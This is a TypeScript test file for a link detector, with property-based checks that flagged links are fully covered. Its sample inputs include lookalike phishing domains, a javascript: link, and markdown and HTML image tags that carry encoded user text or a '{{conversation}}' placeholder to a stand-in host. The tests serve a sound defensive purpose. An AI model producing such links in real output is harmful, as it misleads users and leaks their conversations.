import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { extentsOf, heldFrom, leaksOf } from '../../../tests/promise-a.js';
import { links } from './links.js';

const ENCODED = Buffer.from('the user said zorb and blax').toString('base64url');
const EXAMPLES = [
  'go to https://paypa1.com/zorb now',
  'see (www.rnicrosoft.com).',
  'раypal.com',
  '打开faceb00k.com吧',
  'paypal.com.zorb-blax.org is none',
  'paypal-secure-login.com',
  'https://zorb.com@blax.org/',
  '[https://zorb.org](https://blax.org/x)',
  '[the long words of a label](javascript:alert(1))',
  'http://81.2.69.142/zorb',
  `![x](https://zorb.example/p?d=${ENCODED}) is it`,
  '![x](https://zorb.example/p?d={{conversation}})',
  '![x](https://zorb.example/p?d=the%20user%20said%20zorb%20and%20blax)',
  `<img alt="a b" src = "https://zorb.example/p?d=${Buffer.from('the user said zorb').toString('hex')}">`,
  'go to paypa\u200b1.com or ｐａｙｐａ１.com',
  'go to paypa&#49;.com',
] as const;

describe('what waits of links', () => {
  it.each(EXAMPLES)('is all of it, wherever the text is cut: %s', (example) => {
    expect(extentsOf([links], example), 'nothing is found').not.toEqual([]);
    for (const text of [example, `The keeper wrote it down. ${example} Then he went on.`])
      expect(leaksOf([links], text), text).toEqual([]);
  });

  it('is all of it among marks and words', () => {
    const word = fc.constantFrom('zorb', '[', '](', 'https://', '.', '本', '。', 'x.y', '<img', 'src="', '\n', '-');
    const words = fc.array(word, { maxLength: 5 });
    fc.assert(
      fc.property(
        words,
        fc.constantFrom(...EXAMPLES),
        words,
        fc.constantFrom('', ' '),
        (before, example, behind, mark) => {
          expect(leaksOf([links], [...before, example, ...behind].join(mark))).toEqual([]);
        },
      ),
      { numRuns: 60 },
    );
  });

  it('is nothing of prose in a script without spaces', () => {
    const text = '守灯塔的人一手提着灯，走了很远的路';
    expect(heldFrom([links], text)).toBe(text.length - 1);
  });
});
